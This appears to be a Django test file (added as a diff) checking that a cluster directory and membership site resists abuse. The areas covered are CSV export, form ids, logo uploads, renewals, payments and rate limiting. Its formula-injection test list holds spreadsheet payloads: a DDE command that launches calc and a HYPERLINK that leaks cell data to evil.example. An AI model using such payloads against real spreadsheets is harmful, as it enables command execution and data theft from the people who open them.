@@ -1,0 +1,460 @@
+"""Hostile input and abuse around the directory and membership: spreadsheet formulas in the
+open-data export, ids out of range, logos that are not what they claim, renewals clicked
+twice or at once, Stripe out of reach, names of hidden organisations, applications by the
+hundred."""
+
+import csv
+import datetime
+import io
+import socket
+import threading
+from decimal import Decimal
+
+import pytest
+from django.core.exceptions import ValidationError
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+from PIL import Image
+from wagtail.images import get_image_model
+
+from association.payments.models import Payment
+from membership import services
+from membership.models import Application, Membership, Organisation
+from tests.factories import (
+    ClusterDirectoryPageFactory,
+    MembershipLevelFactory,
+    MembershipPageFactory,
+    OrganisationFactory,
+    OrganisationUserFactory,
+    SectorFactory,
+    StaffUserFactory,
+    verified_user,
+)
+
+HUGE = "99999999999999999999999"
+EDIT_URL = "/dashboard/organisations/{}/edit/"
+
+
+# --- the directory's open-data export ------------------------------------------------------
+
+FORMULAS = [
+    "-1+cmd|' /C calc'!A0",
+    '+1+HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "=1+1",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+]
+
+
+@pytest.mark.django_db
+def test_directory_csv_export_neutralises_every_formula(client, home_page):
+    ClusterDirectoryPageFactory(parent=home_page)
+    for number, formula in enumerate(FORMULAS):
+        OrganisationFactory(
+            name=f"Cluster {number}",
+            objectives=formula,
+            activities=formula,
+            city=formula[:100],
+            address=formula,
+        )
+
+    response = client.get("/clusters/export.csv")
+
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert len(rows) == len(FORMULAS)
+    for row in rows:
+        for column, value in row.items():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+    objectives = {row["objectives"] for row in rows}
+    assert "'-1+cmd|' /C calc'!A0" in objectives
+    assert any(value.startswith("'+1+HYPERLINK") for value in objectives)
+
+
+@pytest.mark.django_db
+def test_directory_csv_export_keeps_numbers_as_numbers(client, home_page):
+    ClusterDirectoryPageFactory(parent=home_page)
+    OrganisationFactory(name="Southern Cluster", latitude="-33.900000", longitude="18.400000")
+
+    rows = list(
+        csv.DictReader(io.StringIO(client.get("/clusters/export.csv").content.decode("utf-8-sig")))
+    )
+
+    assert rows[0]["latitude"] == "-33.900000"
+
+
+# --- ids out of range ----------------------------------------------------------------------
+
+
+@pytest.fixture
+def organisation(home_page):
+    ClusterDirectoryPageFactory(parent=home_page)
+    return OrganisationFactory(name="Vojvodina ICT Cluster", slug="voict")
+
+
+@pytest.fixture
+def org_admin(organisation):
+    return OrganisationUserFactory(organisation=organisation, role="admin").user
+
+
+def _profile_post(organisation, **changes):
+    data = {
+        "name": organisation.name,
+        "stage": organisation.stage,
+        "region": organisation.region,
+        "city": organisation.city,
+        "contacts-TOTAL_FORMS": "0",
+        "contacts-INITIAL_FORMS": "0",
+        "contacts-MIN_NUM_FORMS": "0",
+        "contacts-MAX_NUM_FORMS": "20",
+    }
+    data.update(changes)
+    return data
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("field", ["sectors", "technology_fields"])
+@pytest.mark.parametrize("value", [HUGE, "-1", "0", "1e9", "1.5"])
+def test_profile_form_refuses_ids_out_of_range_before_they_reach_the_database(
+    client, organisation, org_admin, field, value
+):
+    """SQLite stops at 2**63 - 1 (OverflowError); an id no table hands out is refused as an
+    invalid choice without asking the database."""
+    client.force_login(org_admin)
+
+    with CaptureQueriesContext(connection) as queries:
+        response = client.post(
+            EDIT_URL.format(organisation.slug), _profile_post(organisation, **{field: [value]})
+        )
+
+    assert response.status_code == 400
+    assert response.context["form"].errors[field]
+    assert not any(HUGE in query["sql"] for query in queries.captured_queries)
+
+
+@pytest.mark.django_db
+def test_profile_form_still_takes_real_sector_ids(client, organisation, org_admin):
+    sector = SectorFactory(name="ICT", slug="ict")
+    client.force_login(org_admin)
+
+    response = client.post(
+        EDIT_URL.format(organisation.slug), _profile_post(organisation, sectors=[str(sector.pk)])
+    )
+
+    assert response.status_code == 302
+    assert list(organisation.sectors.all()) == [sector]
+
+
+@pytest.mark.django_db
+def test_admin_organisation_filter_ignores_a_sector_id_out_of_range(client, organisation):
+    client.force_login(StaffUserFactory())
+
+    with CaptureQueriesContext(connection) as queries:
+        response = client.get("/admin/snippets/membership/organisation/", {"sectors": HUGE})
+
+    assert response.status_code == 200
+    assert not any(HUGE in query["sql"] for query in queries.captured_queries)
+
+
+@pytest.mark.django_db
+def test_apply_ignores_a_level_out_of_range_in_the_query_string(client, home_page):
+    MembershipPageFactory(parent=home_page)
+    MembershipLevelFactory(name="Network membership")
+    client.force_login(verified_user())
+
+    response = client.get("/membership/apply/", {"level": HUGE})
+
+    assert response.status_code == 200
+    assert response.context["form"].initial.get("level") is None
+
+
+# --- logos ---------------------------------------------------------------------------------
+
+
+def _image(fmt="PNG", size=(40, 40)):
+    buffer = io.BytesIO()
+    Image.new("RGB", size, "navy").save(buffer, fmt)
+    return buffer.getvalue()
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("length", [251, 253, 255])
+def test_a_name_of_up_to_255_characters_with_a_logo_is_saved(
+    client, organisation, org_admin, length
+):
+    client.force_login(org_admin)
+    name = "Č" + "x" * (length - 1)
+    data = _profile_post(organisation, name=name)
+    data["logo_upload"] = SimpleUploadedFile("logo.png", _image(), content_type="image/png")
+
+    response = client.post(EDIT_URL.format(organisation.slug), data)
+
+    assert response.status_code == 302, response.context and response.context["form"].errors
+    organisation.refresh_from_db()
+    assert organisation.name == name
+    assert organisation.logo is not None
+    assert len(organisation.logo.title) <= 255
+    assert organisation.logo.title.startswith("Čxxx")
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    ("filename", "content", "message"),
+    [
+        ("logo.jpg", _image("PNG"), "does not match"),
+        ("logo.png", _image("JPEG"), "does not match"),
+        ("logo.webp", _image("PNG"), "does not match"),
+        ("logo.png", b"%PDF-1.4 not an image", "image"),
+        ("logo.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "image"),
+        ("logo.exe", _image("PNG"), "format"),
+    ],
+)
+def test_a_logo_whose_content_is_not_what_its_name_says_is_a_form_error(
+    client, organisation, org_admin, filename, content, message
+):
+    client.force_login(org_admin)
+    data = _profile_post(organisation)
+    data["logo_upload"] = SimpleUploadedFile(filename, content, content_type="image/png")
+
+    response = client.post(EDIT_URL.format(organisation.slug), data)
+
+    assert response.status_code == 400
+    errors = " ".join(response.context["form"].errors["logo_upload"])
+    assert message in errors.lower()
+    assert get_image_model().objects.count() == 0
+
+
+@pytest.mark.django_db
+def test_a_logo_with_more_pixels_than_allowed_is_a_form_error(
+    client, organisation, org_admin, settings
+):
+    settings.WAGTAILIMAGES_MAX_IMAGE_PIXELS = 1000
+    client.force_login(org_admin)
+    data = _profile_post(organisation)
+    data["logo_upload"] = SimpleUploadedFile(
+        "logo.png", _image(size=(40, 40)), content_type="image/png"
+    )
+
+    response = client.post(EDIT_URL.format(organisation.slug), data)
+
+    assert response.status_code == 400
+    assert "pixels" in " ".join(response.context["form"].errors["logo_upload"])
+    assert get_image_model().objects.count() == 0
+
+
+# --- hidden organisations ------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_editing_an_unpublished_organisation_of_others_answers_like_an_unknown_one(
+    client, home_page
+):
+    OrganisationFactory(name="Stealth Robotics Cluster", slug="stealth", is_published=False)
+    client.force_login(verified_user())
+
+    hidden = client.get(EDIT_URL.format("stealth"))
+    unknown = client.get(EDIT_URL.format("no-such-organisation"))
+
+    assert hidden.status_code == unknown.status_code == 404
+    assert "Stealth Robotics" not in hidden.content.decode()
+
+
+@pytest.mark.django_db
+def test_editing_a_published_organisation_of_others_is_refused(client, organisation):
+    client.force_login(verified_user())
+
+    response = client.get(EDIT_URL.format(organisation.slug))
+
+    assert response.status_code == 403
+
+
+# --- renewals ------------------------------------------------------------------------------
+
+
+def _active_membership(level, *, user=None, today=None):
+    user = user or verified_user()
+    organisation = OrganisationFactory()
+    OrganisationUserFactory(user=user, organisation=organisation, role="admin")
+    membership = Membership.objects.create(
+        organisation=organisation, person=user, level=level, status=Membership.Status.ACTIVE
+    )
+    today = today or datetime.date.today()
+    membership.starts_on = today - datetime.timedelta(days=300)
+    membership.ends_on = today + datetime.timedelta(days=64)
+    membership.save()
+    return membership
+
+
+def _periods(membership):
+    return Membership.objects.filter(organisation=membership.organisation)
+
+
+@pytest.mark.django_db
+def test_renewing_a_free_level_twice_adds_one_year_not_two():
+    level = MembershipLevelFactory(yearly_price=Decimal("0"))
+    membership = _active_membership(level)
+
+    first = services.membership_renew(membership=membership, user=membership.person)
+    with pytest.raises(ValidationError):
+        services.membership_renew(membership=membership, user=membership.person)
+    with pytest.raises(ValidationError):
+        services.membership_renew(membership=first, user=membership.person)
+
+    assert first.status == Membership.Status.ACTIVE
+    assert first.starts_on == membership.ends_on + datetime.timedelta(days=1)
+    assert _periods(membership).count() == 2
+
+
+@pytest.mark.django_db
+def test_renewing_at_a_level_no_longer_offered_is_refused():
+    level = MembershipLevelFactory(yearly_price=Decimal("0"), is_active=False)
+    membership = _active_membership(level)
+
+    with pytest.raises(ValidationError):
+        services.membership_renew(membership=membership, user=membership.person)
+
+    assert _periods(membership).count() == 1
+
+
+@pytest.mark.django_db
+def test_renewing_a_paid_level_twice_keeps_one_renewal_waiting_for_payment():
+    level = MembershipLevelFactory(yearly_price=Decimal("120.00"))
+    membership = _active_membership(level)
+
+    first = services.membership_renew(membership=membership, user=membership.person)
+    second = services.membership_renew(membership=membership, user=membership.person)
+
+    assert first.pk == second.pk
+    assert first.status == Membership.Status.PENDING_PAYMENT
+    assert _periods(membership).count() == 2
+
+
+@pytest.mark.django_db
+def test_renew_button_twice_on_a_free_level_says_it_is_renewed_already(client):
+    level = MembershipLevelFactory(yearly_price=Decimal("0"))
+    membership = _active_membership(level)
+    client.force_login(membership.person)
+
+    client.post(f"/dashboard/memberships/{membership.pk}/renew/")
+    response = client.post(f"/dashboard/memberships/{membership.pk}/renew/", follow=True)
+
+    assert response.status_code == 200
+    assert "already" in response.content.decode()
+    assert _periods(membership).count() == 2
+
+
+@pytest.mark.django_db
+def test_the_database_holds_at_most_one_renewal_waiting_for_payment():
+    from django.db import IntegrityError, transaction
+
+    level = MembershipLevelFactory(yearly_price=Decimal("120.00"))
+    membership = _active_membership(level)
+    waiting = {
+        "organisation": membership.organisation,
+        "level": level,
+        "status": Membership.Status.PENDING_PAYMENT,
+    }
+    Membership.objects.create(**waiting)
+
+    with pytest.raises(IntegrityError), transaction.atomic():
+        Membership.objects.create(**waiting)
+
+
+def _renew_at_once(membership, count):
+    barrier = threading.Barrier(count)
+    outcomes = [None] * count
+
+    def worker(number):
+        try:
+            barrier.wait(timeout=30)
+            outcomes[number] = services.membership_renew(
+                membership=membership, user=membership.person
+            ).pk
+        except ValidationError:
+            outcomes[number] = "refused"
+        finally:
+            connection.close()
+
+    threads = [threading.Thread(target=worker, args=(number,)) for number in range(count)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join(timeout=120)
+    return outcomes
+
+
+@pytest.fixture
+def committed_base(transactional_db):
+    from tests.factories import ensure_locales, ensure_wagtail_base
+
+    ensure_wagtail_base()
+    ensure_locales()
+
+
+@pytest.mark.parametrize("price", [Decimal("0"), Decimal("120.00")])
+def test_renewals_at_the_same_moment_make_one_renewal(committed_base, price):
+    level = MembershipLevelFactory(yearly_price=price)
+    membership = _active_membership(level)
+
+    outcomes = _renew_at_once(membership, 8)
+
+    assert None not in outcomes
+    assert _periods(membership).count() == 2
+    renewals = _periods(membership).exclude(pk=membership.pk)
+    assert renewals.get().starts_on in (None, membership.ends_on + datetime.timedelta(days=1))
+
+
+# --- paying while Stripe is out of reach ---------------------------------------------------
+
+
+def _closed_port() -> int:
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        return probe.getsockname()[1]
+
+
+@pytest.mark.django_db
+def test_paying_when_stripe_is_unreachable_says_so_and_changes_nothing(client, settings):
+    settings.STRIPE_SECRET_KEY = "sk_test_unreachable"
+    settings.STRIPE_API_BASE = f"http://127.0.0.1:{_closed_port()}"
+    level = MembershipLevelFactory(yearly_price=Decimal("120.00"))
+    user = verified_user()
+    membership = Membership.objects.create(
+        person=user, level=level, status=Membership.Status.PENDING_PAYMENT
+    )
+    client.force_login(user)
+
+    response = client.post(f"/dashboard/memberships/{membership.pk}/pay/", follow=True)
+
+    assert response.status_code == 200
+    assert "payment service" in response.content.decode().lower()
+    assert Payment.objects.count() == 0
+    membership.refresh_from_db()
+    assert membership.status == Membership.Status.PENDING_PAYMENT
+
+
+# --- applications by the hundred -----------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_applying_too_often_answers_429_and_files_nothing_more(client, home_page, settings):
+    settings.THROTTLE_RATES = {**settings.THROTTLE_RATES, "apply": {"ip": "50/h", "address": "3/h"}}
+    MembershipPageFactory(parent=home_page)
+    level = MembershipLevelFactory(name="Network membership")
+    client.force_login(verified_user())
+    answers = []
+    for number in range(4):
+        response = client.post(
+            "/membership/apply/",
+            {
+                "level": level.pk,
+                "motivation": "We want to cooperate.",
+                "new_name": f"Cluster {number}",
+                "new_kind": "cluster",
+            },
+        )
+        answers.append(response.status_code)
+
+    assert answers == [302, 302, 302, 429]
+    assert Application.objects.count() == 3
+    assert Organisation.objects.count() == 3
